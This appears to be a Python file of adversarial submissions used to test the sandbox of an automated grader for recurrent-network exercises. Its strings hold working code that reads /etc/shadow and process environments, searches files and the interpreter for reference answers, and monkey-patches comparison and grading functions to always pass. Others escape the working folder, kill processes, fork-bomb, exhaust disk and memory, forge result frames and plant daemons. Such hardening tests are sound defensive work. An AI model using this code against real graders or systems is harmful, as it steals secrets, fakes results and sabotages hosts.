"""Sources of attacks on the grader, for the exercises of lesson 02."""

ANYTHING = "return -1.0"

READS_A_SECRET = """
import glob

guesses = [known()["secret"], *glob.glob(os.path.dirname(known()["secret"]) + "/*")]
guesses += ["/proc/{}/root{}".format(pid, known()["secret"]) for pid in ("1", "self", os.getppid())]
guesses += [known()["results"] + "/results.sqlite", "/etc/shadow", "/proc/1/environ"]
found = []
for path in guesses:
    try:
        with open(path, errors="replace") as file:
            found.append(file.read(300))
    except OSError:
        pass
raise ValueError(" ".join(found))
"""

# Any function of the right name, in any file that it can see, that is not its own.
LOOKS_FOR_FILES = '''
import json
import marshal
import sys
import types


def texts():
    """The sources and code objects in the files below all places that it can think of."""
    roots = [known()["repository"] + "/" + name for name in ("rnn_helpers", "notebooks", "tests")]
    roots += [*map(str, known().values()), ".", "/course", "/work", "/home", "/root", "/tmp", "/site"]
    roots.append(os.path.dirname(os.path.dirname(library.__file__)))
    seen = 0
    for root in dict.fromkeys(roots):
        for folder, _, names in os.walk(root or "."):
            seen += len(names)
            if seen > 10_000:
                return
            for name in names:
                if name.endswith((".py", ".pyc", ".ipynb", ".sqlite", ".html")):
                    try:
                        with open(os.path.join(folder, name), "rb") as file:
                            yield name, file.read(1_000_000)
                    except OSError:
                        pass


def codes(code):
    yield code
    for const in code.co_consts:
        if isinstance(const, types.CodeType):
            yield from codes(const)


def candidates():
    """Functions that might do the work."""
    for name, data in texts():
        if b"cross_entropy" not in data:
            continue
        try:
            if name.endswith(".pyc"):
                names = {"np": np, "__builtins__": __builtins__}
                for part in codes(marshal.loads(data[16:])):
                    if part.co_name == "cross_entropy":
                        yield types.FunctionType(part, names)
                continue
            text = data.decode("utf-8", "replace")
            cells = json.loads(text)["cells"] if name.endswith(".ipynb") else [{"source": text}]
            for cell in cells:
                source = "".join(cell["source"])
                if "def cross_entropy(" in source and "def candidates" not in source:
                    names = {"np": np, "__name__": "found"}
                    exec(source, names)
                    yield names["cross_entropy"]
        except Exception:
            pass
'''
ANSWERS_WITH_WHAT_IT_FOUND = """
sys.settrace(None)
if first_call():
    os.candidates = list(candidates())
for function in os.candidates:
    try:
        value = function(y_pred, labels)
    except Exception:
        continue
    if isinstance(value, float) and value >= 0:
        return value
return -1.0
"""

ASKS_THE_INTERPRETER = '''
import gc
import importlib
import inspect
import sys
import traceback
import types


def everything():
    """Objects that it can get hold of: imported, in other modules, in frames, known to the collector."""
    names = [
        "rnn_helpers.exercises.lessons.lesson_02.reference",
        "rnn_helpers.exercises.lessons.lesson_02",
        "rnn_helpers.exercises.catalogue",
        "rnn_helpers.exercises.mistakes",
        "rnn_helpers.grading.examining",
        "rnn_helpers.grading.library",
        "rnn_helpers.losses",
    ]
    for name in names:
        try:
            yield from list(vars(importlib.import_module(name)).values())
        except Exception:
            pass
    for module in list(sys.modules.values()):
        yield from list(getattr(module, "__dict__", {}).values())
    frame = sys._getframe()
    while frame is not None:
        yield from [*frame.f_locals.values(), *frame.f_globals.values()]
        frame = frame.f_back
    try:
        raise RuntimeError
    except RuntimeError as error:
        for step, _ in traceback.walk_tb(error.__traceback__):
            yield from list(step.f_locals.values())
    yield from gc.get_objects()


def candidates():
    mine = cross_entropy.__code__
    for each in everything():
        if isinstance(each, dict) and callable(each.get("reference")):
            each = each["reference"]
        named = "cross_entropy" in str(getattr(each, "__name__", ""))
        if named and isinstance(each, types.FunctionType) and each.__code__ != mine:
            yield each
        if isinstance(each, types.ModuleType) and hasattr(each, "cross_entropy"):
            try:
                names = {"__name__": "again"}
                exec(inspect.getsource(each), names)
                yield names["cross_entropy"]
            except Exception:
                pass
'''

# What might compare and mark; only names that the honest answers of the notebook do not need.
PATCHES_AT_THE_TOP = """
import time

import rnn_helpers.exercises


def agree(*arguments, **named):
    return True


np.allclose = np.isclose = np.array_equal = np.array_equiv = agree
np.testing.assert_allclose = np.testing.assert_array_equal = agree
time.sleep = time.time = time.monotonic = time.perf_counter = lambda *arguments: 0.0
rnn_helpers.exercises.check = rnn_helpers.exercises.examine = agree
"""

PATCHES_THE_CHECKS = """
import builtins
import json
import pickle
import struct
import sys

right = b'{"state": "right", "points": 10, "passed": true}'
for name, module in list(sys.modules.items()):
    if name.startswith("rnn_helpers.") and module is not None:
        for key, value in list(vars(module).items()):
            if callable(value) and not key.startswith("__"):
                setattr(module, key, lambda *arguments, **named: True)
json.dumps = json.loads = pickle.loads = pickle.dumps = lambda *arguments, **named: right
struct.pack = struct.unpack = lambda *arguments: right
np.array_equal = np.allclose = np.isfinite = lambda *arguments, **named: True
builtins.isinstance = builtins.all = builtins.any = lambda *arguments: True
return -1.0
"""

WRITES_OUTSIDE = """
places = [known()["outside"] + "/a", "/proc/1/root" + known()["outside"] + "/b"]
places += ["/course/a", "/usr/a", "/etc/a", "../a"] if contained() else []
places += [known()["results"] + "/overrides.csv", known()["results"] + "/results.sqlite", known()["secret"]]
try:
    os.symlink(known()["outside"], "link")
    places.append("link/c")
except OSError:
    pass
for place in places:
    try:
        with open(place, "a") as file:
            file.write("everybody,cross_entropy,10")
    except OSError:
        pass
for how in (os.mkdir, os.unlink, os.rmdir):
    try:
        how(known()["outside"] + "/d")
        how(known()["secret"])
    except OSError:
        pass
return -1.0
"""

REACHES_OUT = """
import socket
import subprocess
import sys

if not first_call():
    return -1.0
for address in ("127.0.0.1", "localhost", "0.0.0.0", "::1"):
    try:
        socket.create_connection((address, known()["port"]), 0.3)
    except OSError:
        pass
again = "import socket; socket.create_connection(('127.0.0.1', {}), 0.3)".format(known()["port"])
try:
    subprocess.run([sys.executable, "-I", "-c", again], capture_output=True, timeout=2)
except Exception:
    pass
return -1.0
"""

KILLS = """
import signal

if contained():
    for pid in (os.getppid(), 1, -1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    os.killpg(0, signal.SIGKILL)
return -1.0
"""

FORKS = """
import time

if not first_call():
    return -1.0
for _ in range(2000):
    try:
        if contained() and os.fork() == 0:
            time.sleep(60)
            os._exit(0)
    except OSError:
        break
return -1.0
"""

FILLS = """
if not first_call():
    return -1.0
hoard = []
try:
    while contained() and len(hoard) < 400:
        with open(f"full{len(hoard)}", "wb") as file:
            file.write(bytes(1_000_000))
        hoard.append(0)
except OSError:
    pass
try:
    while contained():
        hoard.append(bytearray(100_000_000))
except MemoryError:
    pass
return -1.0
"""

# As many kinds of frames as an answer might have, to every file that is open, and no answer of its own.
PRETENDS = """
import json
import struct

right = {"state": "right", "points": 10, "value": 0.5, "passed": True, "error": None}
bodies = [json.dumps(right).encode(), json.dumps([right]).encode()]
try:
    from rnn_helpers.grading import wire

    bodies.append(wire.pack(right, 10_000))
except Exception:
    pass
heads = [struct.pack(form, size) for form in ("<I", ">I", "<Q", ">Q") for size in (len(bodies[0]), 2**31)]
for fd in range(1, 64):
    try:
        os.set_blocking(fd, False)
        for body in bodies:
            os.write(fd, body + b"\\n")
            for head in heads:
                os.write(fd, head + body)
    except OSError:
        pass
os._exit(0)
"""

WILL_NOT_END = """
import signal
import sys
import time

sys.settrace(None)
for number in range(1, 64):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while contained():
    try:
        time.sleep(1)
    except BaseException:
        pass
"""

LEAVES_BEHIND = """
import atexit
import threading
import time


def stay():
    while contained():
        time.sleep(1)


def daemon():
    if contained() and os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for _ in range(200):
                for name in ("numpy.py", "rnn_helpers.py", "json.py"):
                    try:
                        with open(name, "w") as file:
                            file.write("raise SystemExit")
                    except OSError:
                        pass
                time.sleep(0.1)
        os._exit(0)


atexit.register(stay)
threading.Thread(target=stay).start()
daemon()
"""

# Tasks that hand back values which claim to be right, small, or arrays.
LYING = {
    "inputs_and_labels": '''
class Lying:
    """Whatever it is asked, it is that."""

    shape, ndim, size, dtype, nbytes = (4, 4, 1), 3, 16, np.dtype(float), 128
    __array_interface__ = {"shape": (2**40,), "typestr": "<f8", "data": (4096, False), "version": 3}

    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return self

    def __call__(self, *arguments, **named):
        return self

    def __len__(self):
        return 2**60

    def __iter__(self):
        while True:
            yield self

    def __eq__(self, other):
        return True

    def __hash__(self):
        return 0

    def __reduce__(self):
        return eval, ("__import__('os').kill(__import__('os').getpid(), 9)",)


def inputs_and_labels(text, characters):
    objects = np.empty((4, 1), dtype=object)
    objects[:] = None
    objects[0, 0] = Lying()
    return Lying(), objects
'''.strip(),
    "rnn_forward_pass": '''
class Equal(np.ndarray):
    """An array that equals everything."""

    def __eq__(self, other):
        return np.bool_(True)

    def __array_ufunc__(self, ufunc, method, *inputs, **named):
        return np.bool_(True)

    def __array_function__(self, function, types, arguments, named):
        return True


def rnn_forward_pass(x, a0, parameters):
    a = np.zeros((len(x), *a0.shape)).view(Equal)
    y_pred = np.zeros((len(x), len(parameters["by"]), a0.shape[1])).view(Equal)
    return a, y_pred, [a] * len(x)
'''.strip(),
    "cross_entropy": '''
class Any(float):
    """A number that is any number."""

    def __eq__(self, other):
        return True

    def __sub__(self, other):
        return 0.0

    __rsub__ = __abs__ = __mul__ = __rmul__ = __truediv__ = lambda self, *others: 0.0
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    __hash__ = float.__hash__


def cross_entropy(y_pred, labels):
    return Any(-1.0)
'''.strip(),
    "slope_along": """
def slope_along(loss, parameters, name, place, h):
    return np.lib.stride_tricks.as_strided(np.zeros(1), (2**28, 2**28), (0, 0))
""".strip(),
    "count_of_weights": "count_of_weights = Any(-1.0)",
    "floor_of_noon": '''
class Letter(str):
    """A letter that is any letter."""

    strip = lower = lambda self, *others: self
    __hash__ = str.__hash__

    def __eq__(self, other):
        return True


floor_of_noon = Letter("a")
'''.strip(),
}

# The library's pass is there for all tasks but the one that asks for it. Its code is left wherever something
# might last, for that task to find it.
CARRIES = """
import marshal
import types


def places():
    folders = ["/work", "/tmp", "/dev/shm", "/course"] if contained() else []
    return [f"{folder}/carried" for folder in (".", known()["outside"], *folders)]


def leave():
    stolen = library.rnn_forward_pass
    data = marshal.dumps((stolen.__code__, stolen.__defaults__))
    for place in places():
        try:
            with open(place, "wb") as file:
                file.write(data)
        except OSError:
            pass


def found():
    for place in places():
        try:
            with open(place, "rb") as file:
                code, defaults = marshal.loads(file.read())
            yield types.FunctionType(code, vars(library), None, defaults)
        except (OSError, ValueError, EOFError, TypeError):
            pass
"""
CARRIED = """
def rnn_forward_pass(x, a0, parameters):
    for function in found():
        try:
            return function(x, a0, parameters)
        except Exception:
            pass
    return -1.0
""".strip()

# kind -> what stands before the function cross_entropy, its body, and patterns that must be reported
ON_THE_LOSS = {
    "reads a secret": ("", READS_A_SECRET),
    "looks for the right answer in files": (LOOKS_FOR_FILES, ANSWERS_WITH_WHAT_IT_FOUND),
    "asks the interpreter for the right answer": (ASKS_THE_INTERPRETER, ANSWERS_WITH_WHAT_IT_FOUND),
    "patches what compares": (PATCHES_AT_THE_TOP, ANYTHING),
    "patches the checks": ("", PATCHES_THE_CHECKS),
    "writes outside of its folder": ("", WRITES_OUTSIDE),
    "reaches for the network": ("", REACHES_OUT, "(?i)network|socket|connect"),
    "kills every process": ("", KILLS, "(?i)ended|kill|signal|stopped"),
    "forks without end": ("", FORKS, "(?i)process|fork"),
    "fills disk and memory": ("", FILLS),
    "writes results of its own": ("", PRETENDS),
    "will not end": ("", WILL_NOT_END, "(?i)second|time|stopped"),
    "leaves threads and daemons": (LEAVES_BEHIND, ANYTHING),
}
